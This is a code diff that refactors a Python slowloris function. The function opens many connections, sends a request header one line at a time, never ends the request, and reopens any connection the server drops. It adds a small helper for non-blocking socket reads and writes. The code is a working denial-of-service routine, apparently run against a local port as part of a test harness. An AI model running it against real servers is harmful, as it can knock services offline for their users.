@@ -29,6 +29,21 @@ def _open(port: int, source: str = "") -> socket.socket | None:
         return None
 
 
+def _poke(sock: socket.socket, action, argument) -> bool:
+    """Does one non-blocking read or write on sock (``action(argument)``, e.g. ``sock.recv``).
+    False, with the socket closed, once the server has closed the connection (an error, or a
+    read that returns nothing)."""
+    try:
+        if action(argument) == b"":
+            raise ConnectionError
+    except BlockingIOError:
+        pass
+    except OSError:
+        sock.close()
+        return False
+    return True
+
+
 def slowloris(port: int, connections: int, seconds: float, source: str = "") -> dict:
     """Many connections that send a request head one header line at a time and never end it;
     every connection the server closes is opened again at once."""
@@ -49,24 +64,12 @@ def slowloris(port: int, connections: int, seconds: float, source: str = "") -> 
             opened += 1
         alive = []
         for sock in sockets:
-            try:
-                if sock.recv(1024) == b"":
-                    raise ConnectionError
-            except BlockingIOError:
-                pass
-            except OSError:
-                sock.close()
+            if _poke(sock, sock.recv, 1024) and _poke(
+                sock, sock.send, b"X-Slow: " + secrets.token_hex(2).encode() + b"\r\n"
+            ):
+                alive.append(sock)
+            else:
                 closed += 1
-                continue
-            try:
-                sock.send(b"X-Slow: " + secrets.token_hex(2).encode() + b"\r\n")
-            except BlockingIOError:
-                pass
-            except OSError:
-                sock.close()
-                closed += 1
-                continue
-            alive.append(sock)
         sockets = alive
         time.sleep(0.5)
     for sock in sockets:
